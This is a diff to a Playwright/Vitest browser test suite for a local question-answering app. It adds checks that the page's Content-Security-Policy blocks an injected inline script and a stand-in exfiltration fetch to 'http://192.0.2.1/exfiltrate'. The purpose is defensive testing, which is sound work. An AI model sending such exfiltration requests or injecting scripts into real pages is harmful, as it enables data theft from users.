@@ -9,7 +9,7 @@ import { join } from 'node:path';
 import type { Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { launchChromium, RequestLog, type LaunchedChromium } from './chromium.ts';
-import { loadTinyModel, startAppFixture, type AppFixture } from './app-fixture.ts';
+import { cspViolations, loadTinyModel, recordCspViolations, startAppFixture, type AppFixture } from './app-fixture.ts';
 import { hotpotQuestions } from '../shared-data.ts';
 import { buildIndexFrom } from '../tools/small-index.ts';
 
@@ -34,6 +34,7 @@ beforeAll(async () => {
   // The second index is the demo one again, under another path.
   app = await startAppFixture({ questions: 10, files: { 'indexes.json': JSON.stringify({ indexes: catalog }) }, indexAliases: ['/second/'], mounts: { '/hostile/': hostileDir } });
   browser = await launchChromium();
+  await recordCspViolations(browser.context);
   requests = new RequestLog(browser.context);
   browser.context.on('weberror', (error) => pageErrors.push(error.error().message));
 });
@@ -108,6 +109,27 @@ describe('the app answers a question with the real engine (tiny model, CPU)', ()
 
     expect(requests.offMachine()).toEqual([]);
     expect(pageErrors).toEqual([]);
+    // The whole product path runs under the page's Content-Security-Policy without tripping it.
+    expect(await cspViolations(page)).toEqual([]);
+    await page.close();
+  });
+
+  it('blocks what its Content-Security-Policy forbids: injected inline scripts and plain-http hosts', async () => {
+    const page = await browser.context.newPage();
+    await page.goto(app.server.url);
+    await page.waitForSelector('[data-testid=corpus-status][data-status=ready]');
+    const ran = await page.evaluate(() => {
+      const script = document.createElement('script');
+      script.textContent = 'window.__inline = 1';
+      document.body.append(script);
+      return (window as { __inline?: number }).__inline;
+    });
+    expect(ran).toBeUndefined();
+    const refused = await page.evaluate(() => fetch('http://192.0.2.1/exfiltrate').then(() => 'sent', () => 'refused'));
+    expect(refused).toBe('refused');
+    await page.waitForFunction(() => ((window as { __csp?: string[] }).__csp ?? []).length >= 2);
+    expect(await cspViolations(page)).toEqual(['script-src-elem inline', 'connect-src http://192.0.2.1/exfiltrate']);
+    expect(requests.offMachine()).toEqual([]);
     await page.close();
   });
 
